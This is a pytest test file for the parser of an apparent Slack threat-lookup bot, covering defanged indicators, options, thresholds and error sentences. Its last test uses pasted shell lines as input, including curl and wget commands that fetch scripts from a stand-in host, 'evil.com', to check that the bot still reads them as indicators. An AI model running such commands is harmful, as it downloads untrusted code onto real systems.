"""The parser: what people type after /vt, and the sentence they read when it cannot be done."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.commands import UnknownOption, UsageError
from handlers.parser import parse
from handlers.request import Verb
from handlers.text import usage as usage_text
from vt.actions import ACTIONS
from vt.evidence import Thresholds

EICAR = "44d88612fea8a8f36de82e1278abb02f"


def typed(line, **thresholds):
    return [
        (lookup.action.key, lookup.value or lookup.input, lookup.threshold)
        for lookup in parse(line, Thresholds(thresholds)).lookups
    ]


def told(line):
    with pytest.raises(UsageError) as caught:
        parse(line, Thresholds())
    return usage_text.usage_error(caught.value)


@pytest.mark.parametrize("action", ACTIONS, ids=lambda action: action.key)
def test_every_action_understands_its_own_example(action):
    """The examples in the help are valid commands."""
    [(key, _, threshold)] = typed(f"{action.key} {action.example}")
    assert (key, threshold) == (action.key, action.threshold)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("scan-ip 192[.]0[.]2[.]1", [("scan-ip", "192.0.2.1", 25)]),
        (
            "scan-ip 192.0.2.1, 198.51.100.7 8.8.8.8",
            [("scan-ip", ip, 25) for ip in ("192.0.2.1", "198.51.100.7", "8.8.8.8")],
        ),
        ("scan-ip 192.0.2.1 192[.]0.2.1", [("scan-ip", "192.0.2.1", 25)]),
        ("SCAN-IP 192.0.2.1", [("scan-ip", "192.0.2.1", 25)]),
        (f"scan-hash {EICAR.upper()}", [("scan-hash", EICAR, 3)]),
        ("scan-hash --threshold 7 " + EICAR, [("scan-hash", EICAR, 7)]),
        (f"scan-hash {EICAR} --threshold=7", [("scan-hash", EICAR, 7)]),
        (f"scan-hash {EICAR} —threshold 7", [("scan-hash", EICAR, 7)]),
        (
            "scan-url <http://evil.example/Path|evil.example/Path>",
            [("scan-url", "http://evil.example/Path", 3)],
        ),
        (
            "scan-url http://evil.example/a,b?ids=1,2,3 http://evil.example/x,http://evil.example/y, evil.com,8.8.8.8",
            [
                ("scan-url", url, 3)
                for url in (
                    "http://evil.example/a,b?ids=1,2,3",
                    "http://evil.example/x",
                    "http://evil.example/y",
                    "http://evil.com/",
                    "http://8.8.8.8/",
                )
            ],
        ),
        (
            "scan-url <http://evil.example/p,q.html|the page, as sent>,hxxp://evil[.]example/r,s",
            [("scan-url", f"http://evil.example/{path}", 3) for path in ("p,q.html", "r,s")],
        ),
        (
            "domain-report <mailto:eve@evil.example|eve@evil.example>",
            [("domain-report", "eve@evil.example", 25)],
        ),
        ("domain-report hxxps://evil[.]example/a", [("domain-report", "evil.example", 25)]),
        (
            "scan-file /srv/a b.zip, /srv/c /srv/d",
            [("scan-file", path, 3) for path in ("/srv/a b.zip", "/srv/c", "/srv/d")],
        ),
        (f"seen 8.8.8.8 and {EICAR} today", [("scan-ip", "8.8.8.8", 25), ("scan-hash", EICAR, 3)]),
    ],
)
def test_values_come_by_space_or_comma_defanged_or_not(line, expected):
    """One line can hold several values in any of the usual spellings."""
    assert typed(line) == expected


def test_a_path_is_what_was_typed_and_not_how_slack_sends_it():
    """`&`, `<` and `>` arrive as entities. A name that looks like an entity arrives escaped once more."""
    sent = "scan-file /srv/a&amp;b &lt;c&gt;.bin, /srv/d&amp;lt;e"
    assert [path for _, path, _ in typed(sent)] == ["/srv/a&b <c>.bin", "/srv/d&lt;e"]
    [lookup] = parse("scan-file /srv/d&lt;e", Thresholds(), has_entities=False).lookups
    assert lookup.input == "/srv/d&lt;e"


def test_options_are_understood_wherever_they_stand():
    """--share, --fresh and --rescan-after-days work before, between and after the values."""
    wanted = parse(f"scan-hash --share {EICAR} --rescan-after-days 30 --fresh", Thresholds())
    assert (wanted.share, wanted.fresh, wanted.lookups[0].rescan_after_days) == (True, True, 30)


def test_the_operators_threshold_stands_unless_someone_says_otherwise():
    """The settings have a threshold for each action; --threshold replaces it for one command."""
    assert typed("scan-ip 192.0.2.1", **{"scan-ip": 9}) == [("scan-ip", "192.0.2.1", 9)]
    assert typed("scan-ip 192.0.2.1 --threshold 2", **{"scan-ip": 9}) == [("scan-ip", "192.0.2.1", 2)]


def test_a_mentioned_person_is_kept_for_a_domain_report():
    """The parser keeps the id of the user; the mail address is looked up later."""
    wanted = parse("domain-report <@U012AB3CD|ana> evil.example", Thresholds())
    assert wanted.people == ("U012AB3CD",)
    assert [lookup.value for lookup in wanted.lookups] == ["evil.example"]


@pytest.mark.parametrize(
    ("line", "verb"), [("", Verb.HELP), ("help", Verb.HELP), (" ping ", Verb.PING), ("quota", Verb.QUOTA)]
)
def test_plain_words(line, verb):
    """An empty command asks for help."""
    assert parse(line, Thresholds()).verb is verb


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("scan-ipp 8.8.8.8", ["scan-ipp", "/vt scan-ip"]),
        ("halp", ["halp", "/vt help"]),
        ("scan-ip", ["/vt scan-ip 192.0.2.1"]),
        ("scan-ip --threshold 5", ["/vt scan-ip 192.0.2.1"]),
        ("scan-ip evil.example", ["evil[.]example", "/vt domain-report evil[.]example"]),
        ("scan-ip 300.1.1.1", ["300[.]1[.]1[.]1", "/vt scan-ip 192.0.2.1"]),
        (f"scan-hash {EICAR[:-1]}", [EICAR[:-1], f"/vt scan-hash {EICAR}"]),
        ("scan-ip 8.8.8.8 --threshold 0", ["--threshold", "from 1 to 200"]),
        ("scan-ip 8.8.8.8 --threshold -1", ["--threshold", "from 1 to 200"]),
        ("scan-ip 8.8.8.8 --threshold x", ["--threshold", "from 1 to 200"]),
        ("scan-ip 8.8.8.8 --threshold 1000000000", ["--threshold", "from 1 to 200"]),
        ("scan-ip 8.8.8.8 --threshold ٣", ["--threshold", "from 1 to 200"]),
        ("scan-ip 8.8.8.8 --threshold", ["--threshold", "from 1 to 200"]),
        (f"scan-hash {EICAR} --rescan-after-days soon", ["--rescan-after-days", "from 0 to 3650"]),
        (
            "scan-file /srv/a --rescan-after-days 3",
            ["works only with scan-hash and scan-url", "/vt scan-hash"],
        ),
        ("scan-ip 8.8.8.8 --rescan-after-days 3", ["works only with scan-hash and scan-url"]),
        ("scan-ip 8.8.8.8 --treshold 5", ["--treshold", "--threshold"]),
        ("what is this", ["/vt scan-ip 192.0.2.1"]),
        (" ".join(f"8.8.{n}.1" for n in range(101)), ["101", "100"]),
        ("x" * 12_001, ["12,000"]),
        ("domain-report 8.8.8.8", ["/vt scan-ip 8[.]8[.]8[.]8"]),
    ],
)
def test_what_is_wrong_is_one_sentence_with_the_right_form(line, words):
    """Wrong commands, options, numbers and values each get a clear sentence, and nothing is looked up."""
    sentence = told(line)
    assert all(word in sentence for word in words), sentence
    assert "\n" not in sentence


def test_a_wrong_value_among_right_ones_is_named():
    """The right ones are looked up, and the sentence for the wrong one is the same as when it stands alone."""
    command = parse("scan-ip 8.8.8.8 300.1.1.1", Thresholds())
    assert [lookup.value for lookup in command.lookups] == ["8.8.8.8"]
    [wrong] = command.wrong
    assert usage_text.usage_error(wrong) == told("scan-ip 300.1.1.1")


def test_every_usage_error_has_a_sentence():
    """A new usage error needs a sentence."""
    assert set(usage_text.USAGE_ERRORS) == set(UsageError.__subclasses__())


@given(st.text(max_size=300) | st.from_regex(r"(scan-[a-z]+|domain-report) [ -~]{0,80}", fullmatch=True))
def test_any_text_is_understood_or_said_to_be_wrong(line):
    """Any text becomes a command or a sentence."""
    try:
        said = parse(line, Thresholds()).verb
    except UsageError as usage_error:
        said = usage_text.usage_error(usage_error)
    assert said


@pytest.mark.parametrize(
    ("line", "option", "nearest"),
    [
        ("--treshold 3 192.0.2.1", "--treshold", "--threshold"),
        ("192.0.2.1 --treshold=3", "--treshold", "--threshold"),
        ("192.0.2.1 --Threshold 3", "--Threshold", "--threshold"),
        ("192.0.2.1 \u2014treshold 3", "--treshold", "--threshold"),
        ("192.0.2.1 -threshold 3", "-threshold", "--threshold"),
        ("please look at 192.0.2.1 --shrae", "--shrae", "--share"),
        ("192.0.2.1 --rescan-after 3", "--rescan-after", "--rescan-after-days"),
        ("--hots web-1 scan-file", "--hots", "--host"),
        ("192.0.2.1 --verbose", "--verbose", ""),
        ("--foo bar 192.0.2.1 8.8.8.8", "--foo", ""),
        ("scan-ip 192.0.2.1 --treshold 3", "--treshold", "--threshold"),
        ("scan-url http://a.example/ --verbose", "--verbose", ""),
        ("check 192.0.2.1 --verbose", "--verbose", ""),
        ("please look at 192.0.2.1 and 198.51.100.7 --format json", "--format", ""),
        ("is 192.0.2.1 bad? --thresh 3", "--thresh", "--threshold"),
        ("what is evil.com --resc", "--resc", "--rescan-after-days"),
        ("scan-ip 192.0.2.1 -t 3", "-t", ""),
        ("scan-file /srv/a.bin -v", "-v", ""),
        ("192.0.2.1 -v", "-v", ""),
        ("192.0.2.1 --share=no", "--share=no", "--share"),
        ("scan-ip 192.0.2.1 --share --share-with ana", "--share-with", "--share"),
        ("form 192.0.2.1 --verbose", "--verbose", ""),
        ("domain-report <@U123ABC> --fast", "--fast", ""),
    ],
)
def test_an_option_that_does_not_exist_is_refused_in_any_line(line, option, nearest):
    """Dropped in silence, it would be answered for other settings than were asked. The nearest one is named."""
    with pytest.raises(UnknownOption) as caught:
        parse(line, Thresholds())
    assert (caught.value.option, caught.value.nearest) == (option, nearest)
    said = usage_text.usage_error(caught.value)
    assert option in said
    assert f"Did you mean {nearest}?" in said if nearest else "Did you mean" not in said


@pytest.mark.parametrize(
    "command", ["help", "quota", "ping", "settings", "watch", "watch on", "ignore", "ignore list"]
)
@pytest.mark.parametrize("option", ["--verbose", "--threshold 3", "-v", "\u2014all"])
def test_commands_without_options_refuse_every_one(command, option):
    """Nothing is dropped in silence after a subcommand either, nor taken for a reason or a value."""
    with pytest.raises(UnknownOption) as caught:
        parse(f"{command} {option}", Thresholds())
    said = usage_text.usage_error(caught.value)
    assert said.startswith(f"/vt {command.split()[0]} takes no options: leave out -"), said


@pytest.mark.parametrize(
    "line",
    [
        "curl --silent -o x http://evil.com/a",
        "iptables -A INPUT -s 192.0.2.1 --dport 80 -j DROP",
        "seen in the log: -- 192.0.2.1 --",
        "wget --no-check-certificate --quiet http://evil.com/a.sh",
        "/usr/bin/curl --insecure http://evil.com/a",
        "msg: `tool --force http://evil.com/a`",
        "Nov 27 11:00:01 host\nexec tool --upload http://evil.com/a",
        "form curl --silent http://evil.com/a",
    ],
)
def test_a_pasted_command_line_is_still_read(line):
    """Its options are not meant for the bot, and none of them is nearly one of ours."""
    found = parse(line, Thresholds())
    assert found.verb is Verb.FORM or len(found.lookups) == 1
